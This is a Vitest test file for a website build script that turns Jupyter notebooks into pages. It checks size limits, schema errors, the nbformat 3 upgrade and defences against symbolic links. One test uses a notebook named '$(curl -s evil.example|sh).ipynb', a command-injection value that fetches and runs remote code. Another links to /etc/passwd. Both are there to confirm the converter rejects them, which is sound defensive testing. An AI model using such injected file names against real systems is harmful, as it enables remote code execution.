import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { convertNotebooks, readNotebook } from '../../website/build/convert-notebooks.mjs';
import { MAX_CELLS, MAX_NOTEBOOK_BYTES } from '../../website/build/notebook-limits.mjs';
import { writeHostileNotebooks } from './fixtures/hostile-notebooks.mjs';

const markdownCell = (source: string) => ({ cell_type: 'markdown', metadata: {}, source });
const notebook = (cells: unknown[] = [markdownCell('# A notebook')]) => ({ nbformat: 4, nbformat_minor: 4, metadata: {}, cells });

/** A repository holding these files in notebooks/. */
function repository(files: Record<string, string | object>): string {
  const root = mkdtempSync(join(tmpdir(), 'convert-notebooks-'));
  mkdirSync(join(root, 'notebooks'));
  for (const [name, content] of Object.entries(files)) writeFileSync(join(root, 'notebooks', name), typeof content === 'string' ? content : JSON.stringify(content));
  return root;
}

describe('readNotebook(file, path)', () => {
  const read = (content: string | object) => {
    const root = repository({ 'x.ipynb': content });
    return (): unknown => readNotebook(join(root, 'notebooks/x.ipynb'), 'notebooks/x.ipynb');
  };

  it('fails on invalid JSON, naming the notebook', () => {
    expect(read('{"cells": [')).toThrow(/^notebooks\/x\.ipynb: at the top level: expected JSON: .*JSON/);
  });

  it('fails on a notebook over the size limit, before reading it', () => {
    expect(read(' '.repeat(MAX_NOTEBOOK_BYTES + 1))).toThrow('notebooks/x.ipynb: at the top level: expected a notebook of at most 20.0 MB, the most the site converts, got 20.0 MB');
  });

  it('reads a symbolic link to no file, naming the notebook and nothing of what it points to', () => {
    const outside = mkdtempSync(join(tmpdir(), 'outside-'));
    writeFileSync(join(outside, 'secret.ipynb'), JSON.stringify(notebook([markdownCell('# outside secret')])));
    for (const target of ['/etc/passwd', join(outside, 'secret.ipynb'), '/dev/zero']) {
      const root = repository({});
      symlinkSync(target, join(root, 'notebooks/x.ipynb'));
      const started = performance.now();
      expect((): unknown => readNotebook(join(root, 'notebooks/x.ipynb'), 'notebooks/x.ipynb')).toThrow(/^notebooks\/x\.ipynb: at the top level: expected a regular file, got a symbolic link$/);
      expect(() => convertNotebooks(root, 'production')).toThrow('notebooks/x.ipynb: at the top level: expected a regular file, got a symbolic link');
      expect(performance.now() - started).toBeLessThan(5000);
      expect(existsSync(join(root, '.generated/site-static/notebooks/x.ipynb'))).toBe(false);
    }
  });

  it('reads no special file, however it is named', () => {
    const root = repository({});
    mkdirSync(join(root, 'notebooks/folder.ipynb'));
    expect((): unknown => readNotebook(join(root, 'notebooks/folder.ipynb'), 'notebooks/folder.ipynb')).toThrow('notebooks/folder.ipynb: at the top level: expected a regular file, got a folder');
  });

  it('replaces a lone surrogate, in any string or key, with U+FFFD, as a UTF-8 decoder does', () => {
    const text = '{"nbformat": 4, "nbformat_minor": 4, "metadata": {"title": "T \\ud800 x", "\\udfff": 1}, "cells": [{"cell_type": "markdown", "metadata": {}, "source": "# a \\ud83d b"}]}';
    const parsed = read(text)() as { metadata: unknown; cells: { source: string }[] };
    expect(parsed.metadata).toEqual({ title: 'T \ufffd x', '\ufffd': 1 });
    expect(parsed.cells[0]!.source).toBe('# a \ufffd b');
  });

  it('fails on a notebook with more cells than a page shows', () => {
    expect(read(notebook(Array.from({ length: MAX_CELLS + 1 }, () => markdownCell('x'))))).toThrow(`notebooks/x.ipynb: at /cells: expected at most ${MAX_CELLS} cells, the most the site shows on one page, got ${MAX_CELLS + 1}`);
  });

  it('fails on a notebook that breaks its schema, with the pointer', () => {
    expect(read(notebook([{ cell_type: 'markdown', metadata: {}, source: 42 }]))).toThrow('notebooks/x.ipynb: at /cells/0/source: must be string, or must be array (nbformat 4.4 schema)');
  });

  it('upgrades an nbformat 3 notebook to version 4, as nbformat does', () => {
    const v3 = {
      nbformat: 3,
      nbformat_minor: 0,
      metadata: { name: 'old' },
      worksheets: [
        {
          metadata: {},
          cells: [
            { cell_type: 'heading', level: 2, metadata: {}, source: 'A heading\non two lines' },
            {
              cell_type: 'code',
              collapsed: true,
              input: '1 + 1',
              language: 'python',
              metadata: {},
              prompt_number: 3,
              outputs: [
                { output_type: 'stream', stream: 'stderr', text: 'warning' },
                { output_type: 'pyout', prompt_number: 3, text: '2', html: '<b>2</b>', json: '{"a": 1}', metadata: {} },
                { output_type: 'pyerr', ename: 'E', evalue: 'v', traceback: ['E: v'] },
              ],
            },
          ],
        },
      ],
    };
    expect(read(v3)()).toEqual({
      nbformat: 4,
      nbformat_minor: 4,
      metadata: { orig_nbformat: 3, orig_nbformat_minor: 0 },
      cells: [
        { cell_type: 'markdown', metadata: {}, source: '## A heading on two lines' },
        {
          cell_type: 'code',
          metadata: { collapsed: true },
          source: '1 + 1',
          execution_count: 3,
          outputs: [
            { output_type: 'stream', name: 'stderr', text: 'warning' },
            { output_type: 'execute_result', execution_count: 3, metadata: {}, data: { 'text/plain': '2', 'text/html': '<b>2</b>', 'application/json': { a: 1 } } },
            { output_type: 'error', ename: 'E', evalue: 'v', traceback: ['E: v'] },
          ],
        },
      ],
    });
  });
});

describe('convertNotebooks(root, variant)', () => {
  it('makes a page and a download of every notebook, whatever its name, at an address safe in a URL', () => {
    const root = repository({ '_x.ipynb': notebook(), 'UPPER.IPYNB': notebook(), 'y2 name #1 %41.ipynb': notebook() });
    convertNotebooks(root, 'production');
    expect(readdirSync(join(root, 'docs/notebooks')).sort()).toEqual(['_cells', 'upper.mdx', 'x.mdx', 'y2-name-1-41.mdx']);
    expect(readdirSync(join(root, 'docs/notebooks/_cells')).sort()).toEqual(['upper.json', 'x.json', 'y2-name-1-41.json']);
    expect(readdirSync(join(root, '.generated/site-static/notebooks')).sort()).toEqual(['upper.ipynb', 'x.ipynb', 'y2-name-1-41.ipynb']);
    expect(readFileSync(join(root, 'docs/notebooks/y2-name-1-41.mdx'), 'utf8')).toContain('fileName={"y2 name #1 %41.ipynb"} downloadPath={"/notebooks/y2-name-1-41.ipynb"}');
  });

  it('fails on two notebooks that would share a page, and on a name with no letter or digit', () => {
    expect(() => convertNotebooks(repository({ 'A b.ipynb': notebook(), 'a-b.ipynb': notebook() }), 'production')).toThrow('notebooks/a-b.ipynb: at the top level: expected a file name that makes a page of its own: A b.ipynb is also named a-b');
    expect(() => convertNotebooks(repository({ '__.ipynb': notebook() }), 'production')).toThrow('notebooks/__.ipynb: at the top level: expected a file name with a letter or a digit, to name the page after ("__.ipynb" has none)');
  });

  it('fails on a name a shell command could not carry, naming the file, before writing anything', () => {
    const root = repository({ '$(curl -s evil.example|sh).ipynb': notebook() });
    expect(() => convertNotebooks(root, 'production')).toThrow('notebooks/$(curl -s evil.example|sh).ipynb: at the top level: expected a file name of letters, digits, spaces and . _ - # % + , @ only');
    expect(existsSync(join(root, '.generated/site-static/notebooks'))).toBe(false);
  });

  it('fails on a folder of notebooks that is a symbolic link', () => {
    const root = repository({});
    const elsewhere = mkdtempSync(join(tmpdir(), 'elsewhere-'));
    mkdirSync(join(root, 'test/site'), { recursive: true });
    symlinkSync(elsewhere, join(root, 'test/site/fixtures'));
    expect(() => convertNotebooks(root, 'site-tests')).toThrow('test/site/fixtures: at the top level: expected a folder of notebooks, not a symbolic link or a file');
  });

  it('names the notebook that fails, among others', () => {
    const root = repository({ 'a.ipynb': notebook(), 'b.ipynb': notebook([{ cell_type: 'code', metadata: {}, execution_count: null, source: 'x', outputs: {} }]) });
    expect(() => convertNotebooks(root, 'production')).toThrow('notebooks/b.ipynb: at /cells/0/outputs: must be array (nbformat 4.4 schema)');
  });

  it('writes no test page in the production variant; the site-tests variant converts the hostile notebooks its build writes', () => {
    const root = repository({ 'a.ipynb': notebook() });
    mkdirSync(join(root, 'test/site/fixtures'), { recursive: true });
    writeFileSync(join(root, 'test/site/fixtures/t.ipynb'), JSON.stringify(notebook()));
    convertNotebooks(root, 'production');
    expect(existsSync(join(root, 'docs/site-tests'))).toBe(false);
    expect(existsSync(join(root, '.generated/site-tests-static'))).toBe(false);
    expect(existsSync(join(root, '.generated/hostile-notebooks'))).toBe(false);
    writeHostileNotebooks(join(root, '.generated/hostile-notebooks'), root);
    convertNotebooks(root, 'site-tests');
    expect(readdirSync(join(root, 'docs/site-tests/notebooks'))).toEqual(['_cells', 't.mdx']);
    expect(readdirSync(join(root, 'docs/site-tests/hostile')).length).toBeGreaterThan(5);
  });
});
